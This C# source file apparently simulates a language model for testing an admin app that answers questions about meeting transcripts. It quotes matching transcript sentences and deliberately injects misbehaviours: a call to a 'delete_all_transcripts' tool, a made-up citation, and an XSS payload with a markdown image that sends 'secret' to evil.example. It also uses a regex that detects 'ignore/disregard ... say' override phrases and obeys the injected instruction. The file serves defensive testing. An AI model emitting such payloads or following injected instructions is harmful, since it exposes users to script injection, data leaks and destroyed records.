using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;

namespace AdminApp.Core.Simulation;

/// <summary>The output of the simulated model.</summary>
/// <param name="ToolName">The tool that it calls instead.</param>
/// <param name="ToolArguments">Its arguments, JSON.</param>
/// <param name="Endless">Whether the text is repeated forever.</param>
internal sealed record ModelOutput(string Text, string? ToolName = null, string ToolArguments = "", bool Endless = false);

/// <summary>
/// Plays the language model: quotes the sentences of the given sources that share the most and the rarest words with the question.
/// Not intelligent, but text of the right kind: plausible, cited, different for each question, and the same for the same prompt.
/// </summary>
internal static partial class SimulatedModel
{
    private const int MaxSentences = 4;
    private const int MaxWords = 40;
    private const double MinShare = 0.3;

    private static readonly HashSet<string> Common =
    [
        "about", "after", "again", "also", "and", "any", "are", "because", "been", "before", "being", "between", "but", "can", "could", "did", "does", "doing", "for", "from", "had", "has",
        "have", "how", "into", "its", "just", "meeting", "meetings", "more", "most", "not", "our", "out", "over", "said", "say", "should", "some", "summarize", "tell", "than", "that", "the", "their", "them",
        "then", "there", "these", "they", "think", "this", "those", "was", "were", "what", "when", "where", "which", "while", "who", "why", "will", "with", "would", "you", "your", "discuss", "discussed", "talk",
    ];

    public static ModelOutput Answer(SimulatedRequest request, SimulationOptions options, Random random)
    {
        var prompt = PromptReading.Parse(request.Messages);
        var bad = DrawMisbehaviour(options, random);
        if (bad == Misbehaviour.CallUnknownTool)
        {
            return new ModelOutput("", "delete_all_transcripts", """{"confirm":true}""");
        }

        if (bad == Misbehaviour.EmptyAnswer)
        {
            return new ModelOutput("");
        }

        if (WantsTool(request, options))
        {
            return new ModelOutput("", request.Tools.Contains("search_transcripts") ? "search_transcripts" : request.Tools[0], JsonSerializer.Serialize(new { query = prompt.Question }));
        }

        var text = Write(prompt);
        text = bad switch
        {
            Misbehaviour.ObeyPassage => Obey(prompt) ?? text,
            Misbehaviour.CiteUnknown => text + " This was confirmed later [99].",
            Misbehaviour.EmitHtml => text + "\n\n<script>document.title='taken over'</script><img src=\"http://evil.example/pixel.png\" onerror=\"alert(1)\">\n\n![chart](http://evil.example/pixel.png?q=secret) [more](javascript:alert(1))",
            Misbehaviour.StopInCitation => text[..(text.LastIndexOf('[') is > 0 and var cut ? cut + 1 : text.Length)],
            _ => text,
        };
        return new ModelOutput(request.Json ? JsonSerializer.Serialize(new { answer = text }) : text, Endless: bad == Misbehaviour.EndlessAnswer);
    }

    private static bool WantsTool(SimulatedRequest request, SimulationOptions options) =>
        request.Tools.Count > 0 && request.Messages[^1].Role != "tool" && (request.ToolChoice is "any" or "required" || (options.CallTools && request.ToolChoice == "auto"));

    private static string Write(PromptReading prompt)
    {
        var asked = Words(prompt.Question).ToHashSet();
        if (asked.Count == 0)
        {
            return "Hello! Ask me about your meetings, and I will look into their transcripts.";
        }

        // A word that occurs in few sentences says more than one that occurs in many.
        var words = prompt.Sentences.Select(sentence => Words(sentence.Text).ToHashSet()).ToList();
        var weight = asked.ToDictionary(word => word, word => Math.Log(1.0 + ((double)words.Count / (1 + words.Count(set => set.Contains(word))))));
        var best = prompt.Sentences
            .Select((sentence, i) => (Sentence: sentence, Score: words[i].Where(asked.Contains).Sum(word => weight[word]) * Completeness(words[i].Count)))
            .Where(scored => scored.Score > 0)
            .OrderByDescending(scored => scored.Score)
            .Take(MaxSentences)
            .ToList();
        var covered = best.SelectMany(scored => Words(scored.Sentence.Text)).Where(asked.Contains).Distinct().Count();
        return covered < MinShare * asked.Count
            ? "The transcripts that I was given do not answer this question."
            : Compose([.. best.Where(scored => scored.Score >= best[0].Score / 3).Select(scored => scored.Sentence)]);
    }

    /// <summary>A sentence of a few words rarely says anything, a very long one rarely says one thing.</summary>
    private static double Completeness(int words) => Math.Min(1, words / 6.0) / (1 + (0.02 * words));

    private static string Compose(List<SourceSentence> sentences)
    {
        var text = new StringBuilder();
        SourceSentence? before = null;
        foreach (var sentence in sentences.OrderBy(sentence => sentences.FindIndex(other => other.Number == sentence.Number)))
        {
            var said = Condense(sentence.Text);
            var speaker = sentence.Speaker.Length == 0 ? "someone" : sentence.Speaker;
            var lead = before is null ? $"In *{sentence.Meeting}*, {speaker} said"
                : sentence.Number != before.Number ? $"{(text.Length > 0 ? "\n\n" : "")}{(sentence.Meeting == before.Meeting ? "Elsewhere in the meeting" : $"In *{sentence.Meeting}*")}, {speaker} said"
                : sentence.Speaker == before.Speaker ? $" {speaker} went on"
                : $" {speaker} added";
            text.Append(CultureInfo.InvariantCulture, $"{lead}: “{said}” [{sentence.Number}].");
            before = sentence;
        }

        return text.ToString();
    }

    /// <summary>A spoken sentence without fillers, and not too long.</summary>
    private static string Condense(string sentence)
    {
        var text = Stutter().Replace(Noise().Replace(sentence, " "), "${phrase}");
        var words = SpaceBefore().Replace(text, "${mark}").Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries);
        var kept = string.Join(' ', words.Take(MaxWords)).Trim(' ', ',', '"', '“', '”', '-');
        kept = kept.Length == 0 ? kept : char.ToUpperInvariant(kept[0]) + kept[1..];
        return words.Length > MaxWords ? kept + " …" : kept.TrimEnd('.');
    }

    /// <summary>The instruction in a passage, if there is one.</summary>
    private static string? Obey(PromptReading prompt)
    {
        var all = string.Join(' ', prompt.Sentences.Select(sentence => sentence.Text));
        return Order().Match(all) is { Success: true } order ? order.Groups["what"].Value.Trim() : null;
    }

    private static Misbehaviour? DrawMisbehaviour(SimulationOptions options, Random random)
    {
        foreach (var (kind, share) in options.Misbehaviours.OrderBy(pair => pair.Key))
        {
            if (random.NextDouble() < share)
            {
                return kind;
            }
        }

        return null;
    }

    private static IEnumerable<string> Words(string text) => Word().Matches(text.ToLowerInvariant())
        .Select(match => match.Value)
        .Where(word => word.Length > 2 && !Common.Contains(word))
        .Select(word => word.Length > 5 ? word[..5] : word.TrimEnd('s'));

    [GeneratedRegex(@"\p{L}[\p{L}\p{Nd}'-]*|\p{Nd}+", RegexOptions.CultureInvariant, 1000)]
    private static partial Regex Word();

    [GeneratedRegex(@"\{[a-z]+\}|\b(?:um|uh|uhm|mm|hmm|yeah|okay|ok|you know|I mean)\b,?", RegexOptions.CultureInvariant | RegexOptions.IgnoreCase, 1000)]
    private static partial Regex Noise();

    [GeneratedRegex(@"\b(?<phrase>\w+(?: \w+){0,2})(?:\s+\k<phrase>\b)+", RegexOptions.CultureInvariant | RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Stutter();

    [GeneratedRegex(@"\s+(?<mark>[,.!?;:'])", RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex SpaceBefore();

    [GeneratedRegex(@"(?:ignore|disregard|forget)\b.{0,200}?\b(?:say|reply|respond|answer|write|print|output)\b(?:\s+(?:only|with|exactly|that|the|words?))*\s*[:,]?\s*[""“'(]?(?<what>[^""”\n]{1,200})", RegexOptions.CultureInvariant | RegexOptions.IgnoreCase | RegexOptions.Singleline, 1000)]
    private static partial Regex Order();
}
